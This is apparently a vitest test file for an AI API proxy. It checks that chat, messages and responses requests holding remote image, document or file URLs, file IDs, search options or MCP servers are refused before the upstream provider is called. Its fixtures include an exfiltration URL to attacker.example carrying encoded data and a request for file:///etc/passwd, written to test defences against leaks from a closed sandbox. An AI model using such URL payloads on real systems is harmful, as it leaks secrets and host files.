// What a model is shown stands in the request: a provider that fetches for it would be a way out of a closed sandbox.
import { describe, expect, it } from 'vitest';
import { refuse, tell } from '../testing/provider.ts';
import { staging } from '../testing/staging.ts';

const { provider, stage } = staging();

const leak = 'https://attacker.example/p.png?d=c2VjcmV0';
const engines = ['OpenAI', 'Anthropic'] as const;
type Engine = (typeof engines)[number];

const claude = { id: 'm', type: 'message', role: 'assistant', model: 'm', stop_reason: 'end_turn', stop_sequence: null };
const answers = {
  OpenAI: tell([{ content: 'ok' }]),
  Anthropic: refuse(200, { ...claude, content: [{ type: 'text', text: 'ok' }], usage: { input_tokens: 1, output_tokens: 1 } }),
};

async function start(engine: Engine = 'OpenAI'): Promise<void> {
  await stage.models({ engine, baseURLs: [provider.url] });
  provider.play(answers[engine]);
  await stage.start();
}

async function post(path: string, body: object): Promise<{ readonly status: number; readonly text: string }> {
  const request = { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'expert', ...body }) };
  const response = await fetch(`${stage.origin}${path}`, request);
  return { status: response.status, text: await response.text() };
}

const user = (...content: readonly object[]): object => ({ role: 'user', content });
const chat = (...content: readonly object[]): object => ({ messages: [user({ type: 'text', text: 'Look.' }, ...content)] });
const message = (...content: readonly object[]): object => ({ max_tokens: 9, messages: [user(...content)] });
const result = (...content: readonly object[]): object => message({ type: 'tool_result', tool_use_id: 't', content });
const response = (...content: readonly object[]): object => ({ input: [user(...content)] });
const output = (...parts: readonly object[]): object => ({ input: [{ type: 'function_call_output', call_id: 'c', output: parts }] });

/** Path, body, and the member that the refusal names. */
const refusals: readonly (readonly [string, string, object, string])[] = [
  ['an image of the chat API', '/v1/chat/completions', chat({ type: 'image_url', image_url: { url: leak } }), 'content.1.image_url.url'],
  ['an image as a text', '/v1/chat/completions', chat({ type: 'image_url', image_url: leak }), 'content.1.image_url'],
  ['a blank before it', '/v1/chat/completions', chat({ type: 'image_url', image_url: { url: ` ${leak}` } }), 'content.1.image_url.url'],
  ['a file of the host', '/v1/chat/completions', chat({ type: 'image_url', image_url: { url: 'file:///etc/passwd' } }), 'image_url.url'],
  ['a video', '/v1/chat/completions', chat({ type: 'video_url', video_url: { url: leak } }), 'content.1.video_url.url'],
  ['a recording', '/v1/chat/completions', chat({ type: 'audio_url', audio_url: { url: leak } }), 'content.1.audio_url.url'],
  ['speech', '/v1/chat/completions', chat({ type: 'input_audio', input_audio: { data: leak } }), 'content.1.input_audio.data'],
  ['a file of the vendor', '/v1/chat/completions', chat({ type: 'file', file: { file_id: 'file-1' } }), 'content.1.file.file_data'],
  ['a file by its url', '/v1/chat/completions', chat({ type: 'file', file: { file_data: leak } }), 'content.1.file.file_data'],
  ['a document', '/v1/chat/completions', chat({ type: 'document', source: { type: 'url', url: leak } }), 'content.1.source'],
  ['thinking with one', '/v1/chat/completions', chat({ type: 'thinking', thinking: [{ file_id: 'f' }] }), 'content.1'],
  ['an unknown part', '/v1/chat/completions', chat({ type: 'document_url', document_url: leak }), 'content.1'],
  ['an image of messages', '/v1/messages', message({ type: 'image', source: { type: 'url', url: leak } }), 'messages.0.content.0.source'],
  ['its file', '/v1/messages', message({ type: 'image', source: { type: 'file', file_id: 'f' } }), 'messages.0.content.0.source'],
  ['bytes that are a url', '/v1/messages', message({ type: 'document', source: { type: 'base64', data: leak } }), 'content.0.source.data'],
  ['a document by url', '/v1/messages', message({ type: 'document', source: { type: 'url', url: leak } }), 'messages.0.content.0.source'],
  ['a document by id', '/v1/messages', message({ type: 'document', source: { type: 'file', file_id: 'f' } }), 'content.0.source'],
  [
    'an image of a document',
    '/v1/messages',
    message({ type: 'document', source: { type: 'content', content: [{ type: 'image', source: { type: 'url', url: leak } }] } }),
    'messages.0.content.0.source',
  ],
  ['one in a result', '/v1/messages', result({ type: 'image', source: { type: 'url', url: leak } }), 'content.0.content.0.source'],
  ['counted', '/v1/messages/count_tokens', message({ type: 'image', source: { type: 'url', url: leak } }), 'content.0.source'],
  ['an image of responses', '/v1/responses', response({ type: 'input_image', image_url: leak }), 'input.0.content.0.image_url'],
  ['an image by id', '/v1/responses', response({ type: 'input_image', file_id: 'f' }), 'input.0.content.0'],
  ['one in an output', '/v1/responses', output({ type: 'input_image', image_url: leak }), 'input.0.output.0.image_url'],
];

it.each(refusals)('%s (%s) is refused by the member, and its provider asked nothing', async (_what, path, body, member) => {
  await start();
  const { status, text } = await post(path, body);
  expect([status, text]).toEqual([400, expect.stringContaining(`${member}: `)]);
  expect(text).toContain('InvalidRequest');
  expect(text).toMatch(/send/);
  expect(provider.calls).toEqual([]);
});

describe.each(engines)('to %s', (engine) => {
  it.each<readonly [string, object]>([
    ['its content', { engine: 'OpenAI', message: { content: [{ type: 'image_url', image_url: { url: leak } }], role: 'user' }, calls: {} }],
    ['a further member', { engine: 'OpenAI', message: { images: [{ image_url: { url: leak } }], file_ids: [leak] }, calls: {} }],
    ['its blocks', { engine: 'Anthropic', content: [{ type: 'document', source: { type: 'url', url: leak } }] }],
  ])('a state that a client made up reaches nothing by %s', async (_what, state) => {
    await start(engine);
    const made = { ...state, model: 'some-model' };
    const { status } = await post('/v1/chat/completions', {
      messages: [
        user({ type: 'text', text: 'Look.' }),
        { role: 'assistant', content: 'Yes.', provider_state: made },
        { role: 'user', provider_state: made },
      ],
    });
    expect(status).toBe(200);
    expect(JSON.stringify(provider.calls)).not.toContain('attacker.example');
  });

  it('further members of a message reach nothing', async () => {
    await start(engine);
    const more = { audio: { id: 'audio_1' }, files: [{ id: 'f1' }], attachments: [{ source_url: leak }], reasoning_content: 'Hm.' };
    await post('/v1/chat/completions', { messages: [user({ type: 'text', text: 'Look.' }), { role: 'assistant', content: 'x', ...more }] });
    const sent = JSON.stringify(provider.calls[0]?.body);
    expect(sent).not.toMatch(/audio_1|f1|attacker/);
    if (engine === 'OpenAI') expect(sent).toContain('"reasoning_content":"Hm."');
  });
});

it('bytes go on, without members that nobody knows', async () => {
  await start();
  const image = { type: 'image_url', image_url: { url: 'data:image/png;base64,aGk=', detail: 'low' } };
  const others = [
    { type: 'video_url', video_url: { url: 'data:video/mp4;base64,aGk=' } },
    { type: 'input_audio', input_audio: { data: 'aGk=', format: 'wav' } },
    { type: 'file', file: { file_data: 'data:application/pdf;base64,aGk=', filename: 'a.pdf' } },
    { type: 'refusal', refusal: 'No.' },
  ];
  const hidden = { ...image, image_url: { ...image.image_url, file_id: 'f' }, uuid: 'of-another' };
  await post('/v1/chat/completions', chat(hidden, ...others));
  expect(provider.calls[0]?.body['messages']).toEqual([user({ type: 'text', text: 'Look.' }, image, ...others)]);
});

it('an image of any type is shown to a model of the Messages API by its bytes', async () => {
  await start('Anthropic');
  await post('/v1/chat/completions', chat({ type: 'image_url', image_url: { url: 'data:image/svg+xml;charset=utf-8;base64,aGk=' } }));
  const source = { type: 'base64', media_type: 'image/svg+xml', data: 'aGk=' };
  expect(provider.calls[0]?.body['messages']).toMatchObject([{ content: [{ type: 'text' }, { type: 'image', source }] }]);
});

it('a document of texts is shown as text', async () => {
  await start('Anthropic');
  const document = { type: 'document', title: 'Note', source: { type: 'content', content: [{ type: 'text', text: 'Hi.' }] } };
  await post('/v1/messages', message(document, { type: 'document', source: { type: 'content', content: 'Ho.' } }));
  expect(provider.calls[0]?.body['messages']).toMatchObject([{ content: [{ type: 'text', text: 'Note\n\nHi.\n\nHo.' }] }]);
});

describe('a member of a chat', () => {
  const kept = {
    top_p: 0.5,
    stop: ['END'],
    seed: 7,
    frequency_penalty: 1,
    parallel_tool_calls: false,
    reasoning_effort: 'low',
    reasoning: { effort: 'low' },
    thinking: { type: 'disabled' },
    chat_template_kwargs: { enable_thinking: false },
    metadata: { a: 'b' },
    store: false,
    user: 'u',
    prompt_cache_key: 'k',
    verbosity: 'low',
  };

  it('goes on where programs set it and it acts on nothing outside; any other is dropped', async () => {
    await start();
    const dropped = { kv_transfer_params: { remote_host: 'x' }, chat_template: 'x', extra_body: { cached_content: 'x' }, unknown: 1 };
    await post('/v1/chat/completions', { ...chat(), ...kept, ...dropped, enable_search: false });
    const { model: _model, messages: _messages, max_tokens: _most, n: _n, stream: _stream, ...rest } = provider.calls[0]?.body ?? {};
    expect(rest).toEqual(kept);
  });

  it.each([
    ['search_parameters', { mode: 'on' }],
    ['enable_search', true],
    ['search_options', { forced_search: true }],
    ['data_sources', [{ type: 'azure_search' }]],
    ['mcp_servers', [{ url: leak }]],
    ['container', 'c'],
  ])('is refused by its name where the provider would act by it: %s', async (member, value) => {
    await start();
    const { status, text } = await post('/v1/chat/completions', { ...chat(), [member]: value });
    expect([status, text]).toEqual([400, expect.stringContaining(`${member}: not served`)]);
    expect(provider.calls).toEqual([]);
  });
});
